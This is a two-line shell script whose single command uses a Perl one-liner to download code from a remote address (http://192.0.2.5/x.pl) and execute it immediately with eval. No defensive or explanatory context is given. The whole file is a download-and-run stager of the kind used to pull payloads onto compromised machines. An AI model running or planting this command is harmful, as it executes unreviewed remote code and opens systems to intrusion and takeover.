#!/bin/sh
perl -e 'use LWP::Simple; eval(get("http://192.0.2.5/x.pl"));'
